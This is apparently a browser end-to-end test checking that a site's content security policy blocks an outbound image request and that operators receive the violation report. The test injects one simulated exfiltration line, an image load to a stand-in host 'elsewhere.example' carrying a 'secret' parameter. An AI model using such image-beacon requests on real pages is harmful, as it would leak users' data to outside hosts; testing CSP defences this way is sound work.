import { WHOLE_CHROMIUM } from '../fixtures/chromium.ts';
import { expect, test } from '../fixtures/site.ts';
import { startTlsProxy } from '../fixtures/tls-proxy.ts';

/** Browsers send reports over TLS alone, and collect them for a minute unless configured otherwise. */
const AT_ONCE = '--short-reporting-delay';

test('the browser reports what the content security policy blocked, and operators read it [T13]', async ({ playwright, site }) => {
  const proxy = await startTlsProxy(site.origin);
  const browser = await playwright.chromium.launch({
    ...WHOLE_CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', AT_ONCE, proxy.trust],
  });
  const page = await browser.newPage();
  await page.goto(`${proxy.origin}/404`);
  await expect(page.getByRole('heading', { level: 1, name: '页面不存在' })).toBeVisible();

  await page.evaluate(() => {
    new Image().src = 'https://elsewhere.example/stolen.png?secret=1';
  });

  await expect
    .poll(async () => (await site.ops.reports(1)).map(({ name, message, address }) => ({ name, message, address })), { timeout: 20_000 })
    .toContainEqual({ name: 'csp-violation', message: 'img-src /stolen.png', address: '/404' });
  await browser.close();
  await proxy.stop();
});
